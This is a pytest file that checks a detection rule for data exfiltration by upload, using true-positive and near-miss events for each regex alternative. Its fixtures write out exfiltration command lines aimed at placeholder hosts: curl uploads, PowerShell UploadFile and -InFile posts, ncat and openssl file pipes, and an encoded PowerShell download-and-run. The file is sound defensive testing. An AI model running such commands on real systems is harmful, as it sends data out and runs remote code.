"""The upload rules' AQL is a broad, cheap net; every alternative in it has a true positive that only it admits
and a near miss it keeps out, and deleting any one alternative loses its true positive. The rule's AQL is
rendered by the app and run by the console stand-in's AQL engine in-process (fast; the rule files' e2e test
runs the same rules over a socket), on the full-path console profile under both readings of MATCHES."""
from __future__ import annotations

import pytest

from app.detection.aql import Window, render
from app.detection.rule import load_rules
from app.qradar.properties import resolve_fields
from qradar_sim.aql import compile_query
from qradar_sim.catalog import Catalog
from qradar_sim.eventstore import EventStore
from qradar_sim.profiles import PROFILES, column_types, event_columns

from ..e2e.test_rule_files import materialize

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CMD = r"C:\Windows\System32\cmd.exe"
B64 = "SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGUALgB4AC8AYQApAA=="   # no URL-looking text in it


def ev(path, cmd, ofn=None):
    event = {"devicetype": 12, "event_id": "1", "process_image": path.rsplit("\\", 1)[1], "process_path": path,
             "command_line": cmd}
    if ofn:
        event["original_file_name"] = ofn
    return event


# Lines of the net (a marker unique to each) and, per alternative: the line, the alternative as written in its
# group (or "class:<class>:<member>" for one character of a bracket class), a true positive only it admits and a
# near miss the net keeps out.
CURL_IMAGE, CURL_OFN, CURL_TOKENS = "?(curl|wget|wget2)", "'^(curl|wget)\\.exe$'", "(?s)^.*[\\s\"](-"
TOOLS, TOOLS_OFN = "?(bitsadmin|", "'^(bitsadmin|"
RUNTIMES, RUNTIMES_OFN = "?(python[0-9.]*|", "${original_file_name} IMATCHES '^(python"
PS_IMAGE, PS_OFN, PS_TOKENS = "(powershell|pwsh|", "(powershell\\.exe|", "(?s)^.*(upload|"
COPY_IMAGE, COPY_OFN, COPY_TOKENS = "?(cmd|robocopy|", "'^(cmd|robocopy|", "(?s)^.*(@ssl|"
RUNTIME_TOKENS = "(?s)^.*(://|ftp)"
UNC_PORT = "\\\\\\\\[^\\\\]+@[0-9]+\\\\"
CURL = r"C:\Windows\System32\curl.exe"
DASHES = "[-\u2013\u2014\u2015]"

NET = [
    *[(f"curl image {n}", CURL_IMAGE, n, ev(rf"C:\Tools\{n}.exe", f"{n} -T f https://x/"), ev(rf"C:\Tools\{n}x.exe", f"{n} -T f https://x/"))
      for n in ("curl", "wget", "wget2")],
    *[(f"curl original file name {n}", CURL_OFN, n, ev(r"C:\x\svc.exe", "svc -T f https://x/", f"{n}.exe"),
       ev(r"C:\x\svc.exe", "svc -T f https://x/", "svchost.exe")) for n in ("curl", "wget")],
    *[(f"curl short option {c}", CURL_TOKENS, f"class:[TFd]:{c}", ev(CURL, f"curl -{c} x https://x/"), ev(CURL, "curl -o x https://x/"))
      for c in "TFd"],
    ("curl combined short options", CURL_TOKENS, "cluster:[A-Za-z0-9]*", ev(CURL, "curl -sST x https://x/"), ev(CURL, "curl -sSLo x https://x/")),
    ("curl quoted option", CURL_TOKENS, 'class:[\\s"]:"', ev(CURL, 'curl "-T" "x" https://x/'), ev(CURL, 'curl "-o" "x" https://x/')),
    ("curl option after white space", CURL_TOKENS, 'class:[\\s"]:\\s', ev(CURL, "curl -T x https://x/"), ev(CURL, "curl https://x/a-d")),
    *[(f"curl/wget --{w}", CURL_TOKENS, w, ev(CURL, f"curl --{w}x x https://x/"), ev(CURL, "curl --output x https://x/"))
      for w in ("upload", "form", "data", "json", "post", "body")],
    *[(f"image {n}", TOOLS, n, ev(rf"C:\Tools\{n}.exe", f"{n} x"), ev(rf"C:\Tools\{n}x.exe", f"{n} x"))
      for n in ("bitsadmin", "certreq", "rclone", "winscp", "pscp", "scp")],
    ("image .com", TOOLS, "com", ev(r"C:\WinSCP\WinSCP.com", "winscp.com /command"), ev(r"C:\WinSCP\WinSCP.cmd", "winscp.cmd")),
    *[(f"original file name {n}", TOOLS_OFN, n, ev(r"C:\x\svc.exe", "svc x", f"{n}.exe"), ev(r"C:\x\svc.exe", "svc x", "svchost.exe"))
      for n in ("bitsadmin", "certreq", "rclone", "winscp", "pscp", "scp")],
    ("original file name .com", TOOLS_OFN, "com", ev(r"C:\x\svc.exe", "svc x", "WinSCP.com"), ev(r"C:\x\svc.exe", "svc x", "WinSCP.cmd")),
    *[(f"runtime {n}", RUNTIMES, n, ev(rf"C:\Python\{img}", f"{img} -c https://x.example/"), ev(rf"C:\Python\{img}", f"{img} -c print(1)"))
      for n, img in (("python[0-9.]*", "python3.12.exe"), ("pythonw", "pythonw.exe"), ("py", "py.exe"), ("node", "node.exe"),
                     ("ruby", "ruby.exe"), ("perl", "perl.exe"))],
    *[(f"runtime original file name {n}", RUNTIMES_OFN, n, ev(r"C:\x\svc.exe", "svc -c https://x.example/", ofn),
       ev(r"C:\x\svc.exe", "svc -c 1", ofn))
      for n, ofn in (("python[0-9.]*", "python.exe"), ("pythonw", "pythonw.exe"), ("py", "py.exe"), ("node", "node.exe"),
                     ("ruby", "ruby.exe"), ("perl", "perl.exe"))],
    ("runtime token ://", RUNTIME_TOKENS, "://", ev(r"C:\Python\python.exe", "python -c post('https://x/', open('f'))"),
     ev(r"C:\Python\python.exe", "python -c print(open('f').read())")),
    ("runtime token ftp", RUNTIME_TOKENS, "ftp", ev(r"C:\Python\python.exe", "python -c ftplib.FTP('h').storbinary('STOR a', open('a'))"),
     ev(r"C:\Python\python.exe", "python -c print(open('f').read())")),
    *[(f"powershell image {n}", PS_IMAGE, n, ev(rf"C:\PS\{n}.exe", f"{n} -c $w.UploadFile($u, 'f')"),
       ev(rf"C:\PS\{n}.exe", f"{n} -c Get-Date")) for n in ("powershell", "pwsh", "powershell_ise")],
    *[(f"powershell original file name {n}", PS_OFN, n.replace(".", "\\."), ev(r"C:\x\p.exe", "p -c $w.UploadFile($u, 'f')", n),
       ev(r"C:\x\p.exe", "p -c Get-Date", n)) for n in ("powershell.exe", "pwsh.dll", "powershell_ise.exe")],
    ("powershell token upload", PS_TOKENS, "upload", ev(PS, "powershell -c $w.UploadFile($env:U, 'f')"),
     ev(PS, "powershell -c $w.DownloadFile($env:U, 'f')")),
    ("powershell token openwrite", PS_TOKENS, "openwrite", ev(PS, "powershell -c $s = $w.OpenWrite($u)"), ev(PS, "powershell -c $s = $w.OpenRead($u)")),
    ("powershell token winscp", PS_TOKENS, "winscp", ev(PS, "powershell -c Add-Type -Path WinSCPnet.dll; $s.PutFiles('f','/in')"),
     ev(PS, "powershell -c Add-Type -Path x.dll")),
    ("powershell token @ssl", PS_TOKENS, "@ssl", ev(PS, r"powershell -c Copy-Item f \\h@SSL\in"), ev(PS, r"powershell -c Copy-Item f \\h\in")),
    ("powershell token davwwwroot", PS_TOKENS, "davwwwroot", ev(PS, r"powershell -c Copy-Item f \\h\DavWWWRoot\in"),
     ev(PS, r"powershell -c Copy-Item f \\h\in")),
    ("powershell token \\\\host@port\\", PS_TOKENS, UNC_PORT, ev(PS, r"powershell -c Copy-Item f \\h@8080\in"),
     ev(PS, r"powershell -c Copy-Item f \\h\in@x")),
    ("powershell token string concatenation", PS_TOKENS, "[''\"]\\s*\\+\\s*[''\"]", ev(PS, "powershell -c $w.('Upl'+'oadFile')($u, 'f')"),
     ev(PS, "powershell -c $w.($m)($u, 'f')")),
    *[(f"powershell parameter -{p}", PS_TOKENS, p, ev(PS, f"powershell -c irm $u -Method Post -{p}x f"),
       ev(PS, "powershell -c irm $u -OutFile f")) for p in ("inf", "b", "f")],
    *[(f"powershell parameter dash U+{ord(d):04X}", PS_TOKENS, f"class:{DASHES}(inf:{d}", ev(PS, f"powershell -c irm $u -Method Post {d}InFile f"),
       ev(PS, f"powershell -c irm $u {d}OutFile f")) for d in "-\u2013\u2014\u2015"],
    *[(f"powershell encoded, dash U+{ord(d):04X}", PS_TOKENS, f"class:[-/\u2013\u2014\u2015]e:{d}", ev(PS, f"powershell {d}enc {B64}"),
       ev(PS, f"powershell {d}NoProfile {B64}")) for d in "-/\u2013\u2014\u2015"],
    ("powershell encoded -ec", PS_TOKENS, "c", ev(PS, f"powershell -ec {B64}"), ev(PS, f"powershell -ex {B64}")),
    ("powershell encoded -enc...", PS_TOKENS, "n[a-z]*", ev(PS, f"powershell -encodedcommand {B64}"), ev(PS, f"powershell -exec {B64}")),
    ("powershell encoded -e", PS_TOKENS, "optional:?", ev(PS, f"powershell -e {B64}"), ev(PS, f"powershell -x {B64}")),
    *[(f"copy image {n}", COPY_IMAGE, n, ev(rf"C:\Windows\System32\{n}.exe", rf"{n} C:\x \\h@SSL\in"),
       ev(rf"C:\Windows\System32\{n}.exe", rf"{n} C:\x \\h\in")) for n in ("cmd", "robocopy", "xcopy")],
    *[(f"copy original file name {n}", COPY_OFN, n, ev(r"C:\x\svc.exe", rf"svc C:\x \\h@SSL\in", f"{n}.exe"),
       ev(r"C:\x\svc.exe", rf"svc C:\x \\h\in", f"{n}.exe")) for n in ("cmd", "robocopy", "xcopy")],
    ("cmd token @ssl", COPY_TOKENS, "@ssl", ev(CMD, r"cmd /c copy f \\h@SSL\in"), ev(CMD, r"cmd /c copy f \\h\in")),
    ("cmd token davwwwroot", COPY_TOKENS, "davwwwroot", ev(CMD, r"cmd /c copy f \\h\DavWWWRoot\in"), ev(CMD, r"cmd /c copy f \\h\in")),
    ("cmd token \\\\host@port\\", COPY_TOKENS, UNC_PORT, ev(CMD, r"cmd /c copy f \\h@8080\in"), ev(CMD, r"cmd /c copy f \\h\in@x")),
    ("cmd token s_client", COPY_TOKENS, "s_client", ev(CMD, r"cmd /c openssl s_client -connect h:443 < f"), ev(CMD, "cmd /c openssl version")),
    ("cmd token ncat", COPY_TOKENS, "ncat", ev(CMD, r"cmd /c ncat --ssl h 443 < f"), ev(CMD, "cmd /c nc.exe -h")),
    ("cmd token | sftp", COPY_TOKENS, "\\|\\s*sftp", ev(CMD, r"cmd /c echo put f | sftp u@h:/in"), ev(CMD, "cmd /c sftp u@h")),
]


def drop(where: str, marker: str, alternative: str) -> str:
    """The where clause with one alternative deleted from the group on the line that holds `marker`."""
    lines = where.split("\n")
    [index] = [i for i, line in enumerate(lines) if marker in line]
    line = lines[index]
    if alternative.startswith("class:"):
        _, klass, member = alternative.split(":", 2)
        bracket = klass[:klass.index("]") + 1]
        edited = line.replace(klass, klass.replace(bracket, bracket.replace(member, "", 1), 1), 1)
    elif alternative.startswith("cluster:"):
        edited = line.replace(alternative[len("cluster:"):], "", 1)
    elif alternative == "optional:?":
        edited = line.replace("(c|n[a-z]*)?", "(c|n[a-z]*)")
    else:
        edited = line
        for before, after in ((f"({alternative}|", "("), (f"|{alternative}|", "|"), (f"|{alternative})", ")")):
            if before in line:
                edited = line.replace(before, after, 1)
                break
    assert edited != line, f"{alternative!r} is not an alternative of the net's line {marker!r}"
    lines[index] = edited
    return "\n".join(lines)


def matched(where, events, mode):
    """Indices of `events` the web-upload rule's net catches (with `where` in place of its where clause)."""
    rule = load_rules()["t1048-002-web-upload"]
    if where is not None:
        rule = type(rule)(**{**rule.__dict__, "where": where})
    profile = PROFILES["sysmon-fullpath"]
    store = EventStore(profile, Catalog.from_file())
    base = 1_793_000_000_000
    store.add([materialize(e, "sysmon-fullpath", f"10.99.0.{i + 1}", base + i) for i, e in enumerate(events)])
    fields = resolve_fields([c["name"] for c in event_columns(profile)])
    aql = render(rule, fields, Window(base, base + len(events) + 1), limit=100000)
    rows = compile_query(aql, column_types(profile)).execute(store, base + 10**7, regex_mode=mode)
    return {int(r["ew_sourceip"].rsplit(".", 1)[1]) - 1 for r in rows}


@pytest.mark.parametrize("mode", ["full", "substring"])
def test_every_alternative_of_the_net_has_a_true_positive_and_a_near_miss(mode):
    events = [e for _, _, _, tp, near in NET for e in (tp, near)]
    caught = matched(None, events, mode)
    assert {i for i in range(0, len(events), 2)} - caught == set(), "true positives the net misses"
    assert {i for i in range(1, len(events), 2)} & caught == set(), "near misses the net catches"


def test_deleting_any_alternative_loses_its_true_positive():
    where = load_rules()["t1048-002-web-upload"].where
    kept = [label for label, marker, alternative, tp, _ in NET if 0 in matched(drop(where, marker, alternative), [tp], "full")]
    assert kept == []


def test_the_plain_text_rule_casts_the_same_net():
    rules = load_rules()
    assert rules["t1048-003-plaintext-upload"].where == rules["t1048-002-web-upload"].where
